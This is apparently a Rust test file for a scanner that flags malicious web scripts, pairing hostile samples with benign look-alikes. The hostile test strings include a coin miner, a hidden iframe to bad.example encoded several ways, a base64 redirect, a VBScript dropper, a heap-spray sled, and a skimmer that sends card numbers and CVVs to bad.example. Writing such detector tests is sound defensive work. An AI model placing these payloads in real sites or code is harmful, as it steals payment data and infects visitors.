//! Scripts that harm and scripts that only look it. Clause N2.5.
//!
//! Signs that virus scanners know are put together here, so that no scanner trips over this file.

use super::*;

fn check(text: &str, expected: Option<Level>) {
    let found = script(text);
    assert_eq!(found.first().map(|m| m.level), expected, "{text}\n{found:?}");
}

/// Each character as `%xx`.
fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02x}")).collect()
}

#[test]
fn harm_is_found() {
    check(&format!("var miner = new Coin{}('abc'); miner.start();", "Hive.Anonymous"), Some(Level::Fault));
    let frame = "<iframe src=http://bad.example/x width=0 height=0></iframe>";
    check(&format!("document.write(unescape('{}'))", percent(frame)), Some(Level::Fault));
    let hex: String = frame.bytes().map(|b| format!("\\x{b:02x}")).collect();
    check(&format!("document.write(\"{hex}\")"), Some(Level::Fault));
    let codes: Vec<String> = frame.bytes().map(|b| b.to_string()).collect();
    check(&format!("document.write(String.fromCharCode({}))", codes.join(", ")), Some(Level::Fault));
    // `window.location.href="http://bad.example/"`
    check("eval(atob('d2luZG93LmxvY2F0aW9uLmhyZWY9Imh0dHA6Ly9iYWQuZXhhbXBsZS8i'))", Some(Level::Fault));
    let dropper =
        format!("WriteData = \"4D5A{}\"\nSet FSO = CreateObject(\"Scripting.FileSystemObject\")", "90000300");
    check(&dropper, Some(Level::Veto));
    check(&format!("var s = unescape('%u9090{}')", "%u9090%u9090"), Some(Level::Veto));
    let skimmer = "form.addEventListener('submit', function(){ var d = {n: q('#cardnumber').value, c: q('#cvv').value};\
        new Image().src = 'https://bad.example/p.gif?d=' + btoa(JSON.stringify(d)); })";
    check(skimmer, Some(Level::Warning));
}

#[test]
fn what_only_looks_like_harm_is_left_alone() {
    for text in [
        "document.write(unescape(\"%3Cscript src='\" + p + \"hm.example.com/h.js%3F0123456789abcdef' type='text/javascript'%3E%3C/script%3E\"));",
        "document.write(unescape(\"%3Cspan id='stat_icon'%3E%3C/span%3E%3Cscript src='\" + p + \"s95.example.com/stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E\"));",
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0 1=2',3,3,'var|a|b'.split('|'),0,{}))",
        "var re = /[\\u4e00-\\u9fa5\\u3040-\\u30ff\\uac00-\\ud7af]/; var t = '\\u9752\\u79be\\u53bf\\u4eba\\u6c11\\u653f\\u5e9c';",
        "var mail = String.fromCharCode(105,110,102,111,64,113,105,110,103,104,101,46,101,120,97,109,112,108,101);",
        "var a = new Array(60,105,102,114,97,109,101,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23);",
        "var png = atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk');",
        "pay.addEventListener('submit', function(){ if (!q('#cardnumber').value) alert('请填写卡号'); });",
        "location.href = '/m/index.html?u=' + encodeURIComponent('%E9%9D%92%E7%A6%BE%E5%8E%BF%E6%94%BF%E5%BA%9C%E9%97%A8%E6%88%B7%E7%BD%91');",
        "client.anonymous(1)",
        "",
    ] {
        check(text, None);
    }
}

#[test]
fn hostile_scripts_take_linear_time() {
    for piece in ["%", "\\x", "(1,", "atob('", "%41", "(", "\\u00"] {
        script(&piece.repeat(300_000));
    }
}
